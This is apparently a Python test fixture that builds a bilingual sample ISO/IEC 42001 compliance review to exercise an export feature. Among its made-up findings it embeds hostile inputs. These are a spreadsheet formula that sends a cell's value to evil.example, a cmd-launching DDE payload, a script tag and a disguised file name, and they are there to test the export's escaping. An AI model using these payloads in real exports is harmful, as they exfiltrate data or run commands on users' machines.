"""A small review made by hand, in both languages: every status, an override, hostile texts."""

from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Literal

from assistant.export.review_words import count_of
from assistant.review_types import (
    CriterionFinding,
    Evidence,
    GroupSummary,
    Missing,
    Note,
    Override,
    RequirementFinding,
    Review,
    ReviewedDocument,
    Searched,
)
from ingest.types import Span, Status

Language = Literal["de", "en"]
GENERATED = datetime(2026, 11, 24, 9, 30, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"click")'
HOSTILE_QUOTE = '@SUM(1+1)*cmd|"/c calc"!A1 <b>bold</b> &amp; _x003D_1 \u202egnp.exe\u202c'
HOSTILE_FILE = "-2+3+cmd.md"
LONG = "Die Leitung überprüft jede Anwendung gründlich und hält das Ergebnis fest. " * 400


def small_review(language: Language) -> Review:
    """Return seven requirements in three groups over five documents."""
    de = language == "de"

    def say(german: str, english: str) -> str:
        return german if de else english

    policy = (
        "policy",
        say("KI-Leitlinie", "AI policy"),
        "leitlinie.pdf" if de else "policy.pdf",
        Status.APPROVED,
    )
    register = (
        "register",
        say("Register der KI-Systeme", "AI system register"),
        "register.xlsx",
        Status.APPROVED,
    )
    draft = (
        "draft",
        say("Verfahren Folgenabschätzung", "Impact procedure"),
        "impact.docx",
        Status.DRAFT,
    )
    hostile = ("hostile", FORMULA, HOSTILE_FILE, Status.UNKNOWN)

    def evidence(
        source: tuple[str, str, str, Status],
        criterion: str,
        quote: str,
        *,
        page: int = 4,
        bearing: Literal["supports", "weak", "contradicts"] = "supports",
        section: tuple[str, ...] = (),
        lead: str = "",
        label: str | None = None,
        reasons: tuple[str, ...] = (),
    ) -> Evidence:
        return Evidence(
            document_id=source[0],
            document=source[1],
            file=source[2],
            page=page,
            page_label=label,
            section=section,
            quote=quote,
            span=Span(10, 10 + len(quote)),
            document_status=source[3],
            criterion=criterion,
            bearing=bearing,
            reasons=reasons,
            strength=0.75,
            language=language,
            lead=lead,
        )

    context = requirement(
        "4.1",
        say(
            "Verstehen der Organisation und ihres Kontextes",
            "Understanding the organization and its context",
        ),
        "4",
        status="met",
        reason=say(
            "Beide wesentlichen Kriterien sind durch ein Dokument in Kraft belegt.",
            "Both essential criteria are supported by a document in force.",
        ),
        maturity=3,
        confidence=0.86,
        criteria=(
            CriterionFinding(
                "iso42001:4.1.a",
                "essential",
                say(
                    "Die internen und externen Themen, die für KI zählen, sind benannt.",
                    "The internal and external issues that matter for AI are named.",
                ),
                "supported",
                (
                    evidence(
                        policy,
                        "iso42001:4.1.a",
                        say(
                            "den Fachkräftemangel und die Erwartungen der Aufsicht",
                            "the shortage of staff and what the supervisor expects",
                        ),
                        section=(say("2 Umfeld", "2 Context"), say("2.1 Themen", "2.1 Issues")),
                        lead=say(
                            "Für unseren Einsatz von KI berücksichtigen wir:",
                            "For our use of AI we take into account:",
                        ),
                    ),
                    evidence(
                        register,
                        "iso42001:4.1.a",
                        say(
                            "Rolle: Betreiber | System: Terminplanung",
                            "Role: deployer | System: scheduling",
                        ),
                        page=2,
                        label=say("Systeme", "Systems"),
                    ),
                ),
                say(
                    "Zwei Dokumente in Kraft legen das fest.",
                    "Two documents in force lay this down.",
                ),
            ),
            CriterionFinding(
                "iso42001:4.1.b",
                "supporting",
                say("Die Themen werden überprüft.", "The issues are reviewed."),
                "supported",
                (
                    evidence(
                        policy, "iso42001:4.1.b", say("jährlich im Herbst", "every autumn"), page=5
                    ),
                ),
            ),
        ),
        owner=say("KI-Beauftragte", "AI officer"),
        notes=(
            Note(
                "vague",
                say(
                    "„Regelmäßig“ ohne Abstand: Wer prüft wann?",
                    "“Regularly” without an interval: who checks when?",
                ),
                (
                    evidence(
                        policy,
                        "iso42001:4.1.a",
                        say(
                            "Die Themen werden regelmäßig geprüft.",
                            "The issues are reviewed regularly.",
                        ),
                        page=5,
                    ),
                ),
            ),
        ),
    )
    scope = requirement(
        "4.3",
        say(
            "Festlegen des Anwendungsbereichs des KI-Managementsystems",
            "Determining the scope of the AI management system",
        ),
        "4",
        status="partial",
        machine="missing",
        reason=say(
            "Kein Dokument in Kraft legt den Anwendungsbereich fest.",
            "No document in force lays down the scope.",
        ),
        maturity=1,
        implementation=2,
        confidence=0.64,
        priority="medium",
        recommendation=say(
            "Nennen Sie Standorte, Bereiche und KI-Systeme, für die das Managementsystem gilt.",
            "Describe the sites, units and AI systems that the management system covers.",
        ),
        criteria=(
            CriterionFinding(
                "iso42001:4.3.a",
                "essential",
                say(
                    "Der Anwendungsbereich nennt Bereiche und KI-Systeme.",
                    "The scope names units and AI systems.",
                ),
                "weak",
                (
                    evidence(
                        hostile,
                        "iso42001:4.3.a",
                        HOSTILE_QUOTE,
                        page=1,
                        bearing="weak",
                        section=("+1 Scope\x0b", "@here"),
                        reasons=("no_such_code",),
                    ),
                ),
                say(
                    "Nur ein Dokument ohne Freigabe spricht davon.",
                    "Only a document without approval speaks of it.",
                ),
            ),
        ),
        missing=(
            Missing(
                "iso42001:4.3.a",
                "essential",
                say(
                    "Der Anwendungsbereich nennt Bereiche und KI-Systeme.",
                    "The scope names units and AI systems.",
                ),
                say(
                    "Nur ein Dokument ohne Freigabe spricht davon.",
                    "Only a document without approval speaks of it.",
                ),
                say(
                    "Legen Sie fest, welche Standorte, Bereiche und KI-Systeme erfasst sind.",
                    "Lay down which sites, units and AI systems are included.",
                ),
            ),
        ),
        override=Override(
            "iso42001:4.3",
            "partial",
            say(
                "Der Geltungsbereich steht im Handbuch, das nicht in der Bibliothek ist.",
                "The scope is in the manual, which is not in the library.",
            ),
            "Dr. Ines Vogt",
            datetime(2026, 11, 3, 8, 0, tzinfo=UTC),
            "key-then",
            2,
            stale=True,
        ),
    )
    impact = requirement(
        "6.1.4",
        say("KI-System-Folgenabschätzung", "AI system impact assessment"),
        "6",
        status="missing",
        reason=say(
            "Ein wesentliches Kriterium ist ausdrücklich verneint.",
            "A document says expressly that one essential criterion is lacking.",
        ),
        confidence=0.91,
        priority="high",
        recommendation=say(
            "Legen Sie ein Verfahren für die Folgenabschätzung fest und geben Sie es frei.",
            "Lay down a procedure for the impact assessment and approve it.",
        ),
        criteria=(
            CriterionFinding(
                "iso42001:6.1.4.a",
                "essential",
                say(
                    "Ein Verfahren beurteilt die Folgen für Einzelne und die Gesellschaft.",
                    "A procedure judges the effects on individuals and society.",
                ),
                "contradicted",
                (
                    evidence(
                        draft,
                        "iso42001:6.1.4.a",
                        say(
                            "Folgen für Betroffene werden noch nicht beurteilt.",
                            "Effects on those concerned are not judged yet.",
                        ),
                        bearing="contradicts",
                        page=1,
                        section=(say("3 Ablauf", "3 Steps"),),
                    ),
                    evidence(policy, "iso42001:6.1.4.a", LONG, bearing="weak", page=9, label="ix"),
                ),
                say(
                    "Das Dokument sagt, dass es noch nicht geschieht.",
                    "The document says that it does not happen yet.",
                ),
            ),
            CriterionFinding(
                "iso42001:6.1.4.b",
                "supporting",
                say(
                    "Das Ergebnis fließt in die Risikobeurteilung ein.",
                    "The result feeds the risk assessment.",
                ),
                "none",
                (),
                say("Keine Stelle sagt das.", "No passage says so."),
            ),
        ),
        missing=(
            Missing(
                "iso42001:6.1.4.a",
                "essential",
                say(
                    "Ein Verfahren beurteilt die Folgen für Einzelne und die Gesellschaft.",
                    "A procedure judges the effects on individuals and society.",
                ),
                say(
                    "Das Dokument sagt, dass es noch nicht geschieht.",
                    "The document says that it does not happen yet.",
                ),
                say(
                    "Beschreiben Sie, wer vor dem Einsatz welche Folgen beurteilt.",
                    "Describe who judges which effects before use.",
                ),
            ),
            Missing(
                "iso42001:6.1.4.b",
                "supporting",
                say(
                    "Das Ergebnis fließt in die Risikobeurteilung ein.",
                    "The result feeds the risk assessment.",
                ),
                say("Keine Stelle sagt das.", "No passage says so."),
                say(
                    "Verweisen Sie in der Risikobeurteilung auf das Ergebnis.",
                    "Refer to the result in the risk assessment.",
                ),
            ),
        ),
        searched=(
            Searched(
                "iso42001:6.1.4.b",
                ("folgenabschätzung", "risikobeurteilung") if de else ("impact", "risk assessment"),
                4,
                118,
                evidence(
                    policy,
                    "iso42001:6.1.4.b",
                    say("Risiken werden bewertet.", "Risks are assessed."),
                    bearing="weak",
                    page=6,
                ),
            ),
        ),
    )
    treatment = requirement(
        "6.1.3",
        say("KI-Risikobehandlung", "AI risk treatment"),
        "6",
        status="undetermined",
        reason=say(
            "Der Behandlungsplan ist eingescannt und nicht lesbar.",
            "The treatment plan is a scan and cannot be read.",
        ),
        confidence=0.2,
        priority="high",
        recommendation=say(
            "Laden Sie eine lesbare Fassung des Behandlungsplans hoch.",
            "Upload a readable version of the treatment plan.",
        ),
        criteria=(
            CriterionFinding(
                "iso42001:6.1.3.a",
                "essential",
                say(
                    "Maßnahmen zu den Risiken sind festgelegt.",
                    "Measures for the risks are laid down.",
                ),
                "undetermined",
            ),
        ),
    )
    logs = requirement(
        "A.6.2.8",
        say("Aufzeichnung von Ereignisprotokollen", "AI system recording of event logs"),
        "A.6",
        status="partial",
        reason=say("Ein unterstützendes Kriterium fehlt.", "A supporting criterion is missing."),
        maturity=2,
        confidence=0.7,
        priority="low",
        recommendation=say(
            "Legen Sie die Aufbewahrung der Protokolle fest.", "Lay down how long logs are kept."
        ),
        criteria=(
            CriterionFinding(
                "iso42001:A.6.2.8.a",
                "essential",
                say(
                    "Es ist festgelegt, wann aufgezeichnet wird.",
                    "It is laid down when events are recorded.",
                ),
                "supported",
                tuple(
                    evidence(
                        policy,
                        "iso42001:A.6.2.8.a",
                        say(
                            f"Protokolle werden im Fall {n} geführt.", f"Logs are kept in case {n}."
                        ),
                        page=n,
                    )
                    for n in range(1, 9)
                ),
            ),
        ),
    )
    supply = requirement(
        "A.6.1.2",
        say(
            "Ziele für die verantwortungsvolle Entwicklung",
            "Objectives for responsible development of AI system",
        ),
        "A.6",
        status="not_applicable",
        machine="missing",
        reason=say("Kein Dokument nennt solche Ziele.", "No document names such objectives."),
        confidence=0.8,
        criteria=(
            CriterionFinding(
                "iso42001:A.6.1.2.a",
                "essential",
                say("Ziele sind gesetzt.", "Objectives are set."),
                "none",
            ),
        ),
        override=Override(
            "iso42001:A.6.1.2",
            "not_applicable",
            say("Wir entwickeln keine KI-Systeme.", "We do not develop AI systems."),
            "Jonas Meer",
            datetime(2026, 10, 12, 8, 0, tzinfo=UTC),
            "key",
        ),
    )
    verification = requirement(
        "A.6.2.4",
        say(
            "Verifizierung und Validierung von KI-Systemen", "AI system verification and validation"
        ),
        "A.6",
        status="missing",
        reason=FORMULA,
        confidence=0.77,
        priority="medium",
        recommendation="+49 30 1234 <script>alert(1)</script>\x00\ud800",
        criteria=(
            CriterionFinding(
                "iso42001:A.6.2.4.a",
                "essential",
                say(
                    "Prüfungen vor der Freigabe sind festgelegt.",
                    "Tests before release are laid down.",
                ),
                "none",
            ),
        ),
    )
    requirements = (context, scope, impact, treatment, supply, verification, logs)
    groups = tuple(
        GroupSummary(
            f"iso42001:{ref}",
            title,
            count_of(inside := [one for one in requirements if one.group == f"iso42001:{ref}"]),
            round(sum(one.documentation_maturity for one in inside) / len(inside), 2),
        )
        for ref, title in (
            ("4", say("Kontext der Organisation", "Context of the organization")),
            ("6", say("Planung", "Planning")),
            ("A.6", say("Lebenszyklus von KI-Systemen", "AI system life cycle")),
        )
    )
    return Review(
        set_id="iso42001",
        set_title=say("ISO/IEC 42001 KI-Managementsystem", "ISO/IEC 42001 AI management system"),
        edition="ISO/IEC 42001:2023",
        language=language,
        generated=GENERATED,
        documents=(
            ReviewedDocument(
                "policy",
                policy[1],
                policy[2],
                "2.0",
                policy[3],
                "in_force",
                12,
                effective_date=date(2026, 3, 1),
            ),
            ReviewedDocument(
                "register", register[1], register[2], None, register[3], "in_force", 2
            ),
            ReviewedDocument("draft", draft[1], draft[2], "0.3", draft[3], "draft", 1),
            ReviewedDocument("hostile", FORMULA, HOSTILE_FILE, "=1+1", hostile[3], "unknown", 1),
            ReviewedDocument(
                "scan",
                say("Behandlungsplan", "Treatment plan"),
                "scan.pdf",
                "1.0",
                Status.SUPERSEDED,
                "superseded",
                9,
                (2, 3, 4, 7),
                say("Behandlungsplan 2026", "Treatment plan 2026"),
            ),
        ),
        requirements=requirements,
        groups=groups,
        notes=(
            Note(
                "contradiction",
                say(
                    "Zwei Dokumente nennen verschiedene Abstände der Überprüfung der Leitlinie.",
                    "Two documents name different intervals for reviewing the policy.",
                ),
                (
                    evidence(
                        policy,
                        "iso42001:4.1.a",
                        say(
                            "Die Leitlinie wird jährlich überprüft.",
                            "The policy is reviewed every year.",
                        ),
                        page=11,
                    ),
                    evidence(
                        register,
                        "iso42001:4.1.a",
                        say("Überprüfung: alle zwei Jahre", "Review: every two years"),
                        page=1,
                        label=say("Pflichten", "Duties"),
                    ),
                ),
            ),
            Note(
                "stale",
                say("Die genannte Frist ist verschoben worden.", "The date named has been moved."),
                (
                    evidence(
                        policy,
                        "",
                        say(
                            "Ab 2. August 2026 gelten die Pflichten.",
                            "The duties apply from 2 August 2026.",
                        ),
                        page=3,
                    ),
                ),
            ),
        ),
        library="0f3a9c",
        counts=count_of(requirements),
    )


def requirement(
    ref: str,
    title: str,
    group: str,
    *,
    status: Literal["met", "partial", "missing", "undetermined", "not_applicable"],
    machine: Literal["met", "partial", "missing", "undetermined"] | None = None,
    reason: str = "",
    maturity: int = 0,
    implementation: int | None = None,
    confidence: float = 0.5,
    priority: Literal["high", "medium", "low", "none"] = "none",
    recommendation: str = "",
    criteria: tuple[CriterionFinding, ...] = (),
    missing: tuple[Missing, ...] = (),
    searched: tuple[Searched, ...] = (),
    owner: str = "",
    notes: tuple[Note, ...] = (),
    override: Override | None = None,
) -> RequirementFinding:
    """Return a finding of the set iso42001."""
    return RequirementFinding(
        id=f"iso42001:{ref}",
        ref=ref,
        title=title,
        group=f"iso42001:{group}",
        kind="control" if ref.startswith("A") else "clause",
        status=status,
        machine_status=machine or status,
        documentation_maturity=maturity,
        implementation_maturity=implementation,
        confidence=confidence,
        criteria=criteria,
        missing=missing,
        searched=searched,
        reason=reason,
        recommendation=recommendation,
        priority=priority,
        owner=owner,
        notes=notes,
        override=override,
        evidence_key="key",
    )


def single_review() -> Review:
    """Return a review of one requirement, without documents and without evidence."""
    review = small_review("en")
    only = replace(review.requirements[3], criteria=(), recommendation="")
    return replace(
        review, requirements=(only,), documents=(), notes=(), groups=(), counts=count_of([only])
    )


def large_review(count: int) -> Review:
    """Return a review of many requirements in groups of ten, with the small one's findings."""
    review = small_review("de")
    requirements = tuple(
        replace(
            review.requirements[number % 7],
            id=f"big:{number // 10}.{number % 10}",
            ref=f"{number // 10}.{number % 10}",
            group=f"big:{number // 10}",
        )
        for number in range(count)
    )
    groups = tuple(
        GroupSummary(
            f"big:{number}", f"Kapitel {number}", count_of(requirements[number * 10 :][:10]), 1.4
        )
        for number in range((count + 9) // 10)
    )
    return replace(review, requirements=requirements, groups=groups, counts=count_of(requirements))
